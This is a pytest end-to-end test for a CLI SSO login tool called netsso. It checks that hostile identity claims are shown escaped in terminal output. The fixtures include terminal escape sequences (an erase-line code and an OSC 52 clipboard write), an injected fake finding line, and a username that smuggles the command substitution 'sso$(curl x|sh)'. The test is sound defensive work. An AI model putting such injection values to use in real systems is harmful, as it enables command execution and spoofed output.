"""Claims from the real provider are hostile input: `login`, `setup` and live `whoami` print them escaped.

The account's email and groups carry a carriage return with an erase-line sequence, OSC 52 (clipboard write) and
a line feed followed by text that would pass for a line of its own. Every text output shows them escaped and
starts no line from inside a claim; JSON keeps the exact values.
"""

from __future__ import annotations

import json
import shlex
import unicodedata
from typing import Any

import pytest
from harness.netsso import browser_args, provider_args

pytestmark = pytest.mark.e2e

ERASE = "\r\x1b[2K"
OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"
FAKE = "\nHIGH  fake-finding  namespace/none"
EMAIL = "mallory@example.test" + ERASE + FAKE
GROUPS = ["devs" + OSC52, "ops" + FAKE]


def _escaped(text: str) -> str:
    out = []
    for c in text:
        if c in "\t\n\r":
            out.append({"\t": "\\t", "\n": "\\n", "\r": "\\r"}[c])
        elif unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return "".join(out)


def _assert_safe(text: str, *shown: str) -> None:
    bad = sorted({repr(c) for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")})
    assert not bad, (bad, text)
    assert not [ln for ln in text.splitlines() if ln.startswith("HIGH")], text
    for s in shown:
        assert _escaped(s) in text, (_escaped(s), text)


def test_login_setup_and_whoami_print_hostile_claims_escaped(
    provider: Any, apiserver: Any, kubeconfig: Any, home: Any, browser_command: Any, run_netsso: Any
) -> None:
    provider.set_accounts({"mallory": {"email": EMAIL, "groups": GROUPS}})
    browser_command.set(login="mallory")
    args = provider_args(provider, *browser_args(browser_command))
    r = run_netsso("login", *args, timeout=90)
    assert r.returncode == 0, r.stderr
    _assert_safe(r.stdout + r.stderr, EMAIL, *GROUPS)

    # setup: the claims as YAML, and "# you will be: <email>" (the email claim is verified, so it is the username);
    # the kubectl command it suggests for the written user has the name shell-quoted
    user = "sso$(curl x|sh)"
    r = run_netsso("setup", *args, "--write-kubeconfig", "--user", user, timeout=90)
    assert r.returncode == 0, r.stderr
    _assert_safe(r.stdout + r.stderr, EMAIL)
    assert f"use it with: kubectl config set-context --current --user={shlex.quote(user)}" in r.stderr, r.stderr

    # whoami, local and cluster view (the API double maps the same token)
    r = run_netsso("whoami")
    assert r.returncode == 0, r.stderr
    assert "Cluster view (SelfSubjectReview)" in r.stdout, r.stdout
    _assert_safe(r.stdout + r.stderr, EMAIL, *GROUPS)

    # machine formats: the exact claims
    data = json.loads(run_netsso("login", *args, "-o", "json", timeout=90).stdout)
    assert (data["email"], data["groups"]) == (EMAIL, GROUPS)
